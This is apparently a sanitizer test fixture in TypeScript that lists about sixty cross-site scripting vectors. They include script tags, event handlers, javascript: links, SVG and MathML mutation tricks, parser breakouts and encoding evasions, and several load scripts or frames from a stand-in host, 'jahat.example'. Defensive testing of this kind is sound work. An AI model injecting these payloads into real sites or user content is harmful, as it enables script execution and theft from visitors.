/** What a script that gets to run would do; every way of it is watched. */
const run = "alert(1)";
/** A host that nothing may be asked from. */
const foreign = "https://jahat.example";

/**
 * One of each way in which stored HTML can come to life, written for this project: [what it tries, HTML].
 * A picture from another host is not among them, because staff may use those.
 */
export const xssVectors: readonly (readonly [string, string])[] = [
  ["a script", `<script>${run}</script>`],
  ["a script in mixed case with a slash", `<ScRiPt/x>${run}</sCrIpT >`],
  ["a script from elsewhere", `<script src=${foreign}/x.js></script>`],
  ["a script left open", `<script>${run}//`],
  ["a script split by another", `<scr<script>ipt>${run}</scr</script>ipt>`],
  ["a module script", `<script type=module>import("${foreign}/x.js")</script>`],
  ["a data block for the page's own reader", `<script type="application/json" id="page-data">{}</script>`],
  ["an image that fails", `<img src=x onerror=${run}>`],
  ["an image with line breaks for spaces", `<img\nsrc=x\nonerror\n=\n"${run}"\n>`],
  ["an image with slashes for spaces", `<img/src=x/onerror=${run}>`],
  ["an attribute in back quotes", `<img src=\`x\` onerror=\`${run}\`>`],
  ["an attribute that breaks out of quotes", `<img alt='"><script>${run}</script>' src=x>`],
  ["an attribute left open", `<img src=x alt="><script>${run}</script>`],
  ["an entity in a handler", `<img src=x onerror=&#97;lert(1)>`],
  ["a handler on an allowed tag", `<p onpointerenter=${run} onfocus=${run} tabindex=0 autofocus>kata</p>`],
  ["a toggle that opens by itself", `<details open ontoggle=${run}><summary>kata</summary></details>`],
  ["an animation that ends", `<p style="animation:spin 1ms" onanimationend=${run}>kata</p>`],
  ["a popover", `<button popovertarget=x>k</button><p id=x popover onbeforetoggle=${run}>kata</p>`],
  ["a link with javascript", `<a href="javascript:${run}">kata</a>`],
  ["a link with javascript in entities", `<a href="&#106;avascript&colon;${run}">kata</a>`],
  ["a link with a tab in javascript", `<a href="java\tscript:${run}">kata</a>`],
  ["a link with a control character first", `<a href="\u0001javascript:${run}">kata</a>`],
  [
    "a link with vbscript and data",
    `<a href="vbscript:x">a</a><a href="data:text/html,<script>${run}</script>">b</a>`,
  ],
  ["a link that tells another host", `<a href="/blog" ping="${foreign}/ping">kata</a>`],
  ["an image with javascript", `<img src="javascript:${run}" lowsrc="javascript:${run}">`],
  [
    "an image with other sources",
    `<img src=x srcset="${foreign}/a.png 1x"><picture><source srcset="${foreign}/b.png"><img src=x></picture>`,
  ],
  [
    "a background",
    `<table background="${foreign}/a.png"><tr><td background="${foreign}/b.png">kata</td></tr></table>`,
  ],
  ["an SVG that loads", `<svg onload=${run}><circle r=1 /></svg>`],
  ["an SVG with a script", `<svg><script>${run}</script></svg>`],
  [
    "an SVG with an animated link",
    `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>kata</text></a></svg>`,
  ],
  ["an SVG with a foreign object", `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`],
  ["an SVG that uses another", `<svg><use href="${foreign}/x.svg#a"/><image href="${foreign}/x.png"/></svg>`],
  [
    "an SVG in a data image",
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  ],
  ["MathML with a link", `<math><mtext href="javascript:${run}">kata</mtext></math>`],
  [
    "MathML whose style turns into markup",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  ],
  ["a noscript whose text turns into markup", `<noscript><p title="</noscript><img src=x onerror=${run}>">`],
  ["a style in a foreign element", `<svg></p><style><a id="</style><img src=x onerror=${run}>">`],
  ["a form in a form", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`],
  [
    "a template and a shadow root",
    `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  ],
  ["a comment that ends early", `<!--><img src=x onerror=${run}>-->`],
  ["a bogus comment", `<!x><?x ><img src=x onerror=${run}></?x>`],
  ["a CDATA section", `<![CDATA[<img src=x onerror=${run}>]]>`],
  [
    "a textarea and a title that swallow",
    `<textarea><img src=x onerror=${run}></textarea><title><img src=x onerror=${run}></title>`,
  ],
  ["a style sheet", `<style>@import "${foreign}/x.css"; body{background:url(${foreign}/y.png)}</style>`],
  [
    "a style attribute",
    `<p style="background:url(${foreign}/x.png);position:fixed;inset:0;width:expression(${run})">kata</p>`,
  ],
  [
    "a linked style sheet",
    `<link rel=stylesheet href=${foreign}/x.css><link rel=preload as=script href=${foreign}/x.js>`,
  ],
  ["a frame", `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`],
  ["a frame from elsewhere", `<iframe src=${foreign}></iframe><frameset><frame src=${foreign}></frameset>`],
  ["an object and an embed", `<object data="javascript:${run}"></object><embed src=${foreign}/x.swf>`],
  ["a refresh", `<meta http-equiv=refresh content="0;url=${foreign}">`],
  ["another base", `<base href=${foreign}/><a href=x>kata</a>`],
  [
    "a form that sends itself",
    `<form id=f action=${foreign}><input name=q value=1></form><button form=f formaction="javascript:${run}">kata</button>`,
  ],
  [
    "a video and a sound",
    `<video src=${foreign}/x.mp4 onerror=${run}><source onerror=${run}></video><audio src=${foreign}/x.mp3 autoplay>`,
  ],
  [
    "names that hide the page's own",
    `<img name=getElementById><a id=root>kata</a><form id=dataLayer><input name=push></form>`,
  ],
  ["a marquee", `<marquee onstart=${run}>kata</marquee>`],
  ["letters of other widths", `＜script＞${run}＜/script＞<img src=x ｏｎｅｒｒｏｒ=${run}>`],
  [
    "half encoded text",
    `&lt;script&gt;${run}&lt;/script&gt; %3Cscript%3E${run}%3C/script%3E +ADw-script+AD4-`,
  ],
  ["a zero character", `<scr\u0000ipt>${run}</scr\u0000ipt><img src=x on\u0000error=${run}>`],
  ["separators of lines in JSON", `kata\u2028${run}\u2029</script ><script>${run}</script>`],
  ["a template of a framework", `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`],
  ["prototype names", `<p __proto__=x constructor=x>__proto__ kata</p>`],
];
